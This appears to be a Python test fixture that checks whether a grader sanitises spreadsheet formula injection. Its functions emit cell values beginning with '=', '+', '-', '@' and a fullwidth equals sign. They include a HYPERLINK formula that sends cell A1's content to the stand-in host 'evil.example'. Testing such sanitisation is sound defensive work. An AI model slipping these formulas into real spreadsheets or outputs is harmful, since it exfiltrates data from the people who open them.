"""115d: say formulas of a spreadsheet, behind each sign that begins one.

A naive grader writes messages into cells, and the spreadsheet that opens them runs the formulas.
expect: double failed
expect: arrays failed
expect: total error
expect: knock failed
expect: weigh error
"""

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"marks\")"
Cell = type("=1+1", (), {})
Oops = type("@SUM(1)", (Exception,), {})


def double(x):
    print(FORMULA)
    return Cell()


class Total:
    def add(self, x):
        raise Oops(f"\t{FORMULA}\r\n+{FORMULA}\",\n-2+3\n")


def knock():
    return f"+{FORMULA}"


def weigh(f, x):
    raise ValueError(f"\uff1d{FORMULA[1:]}")
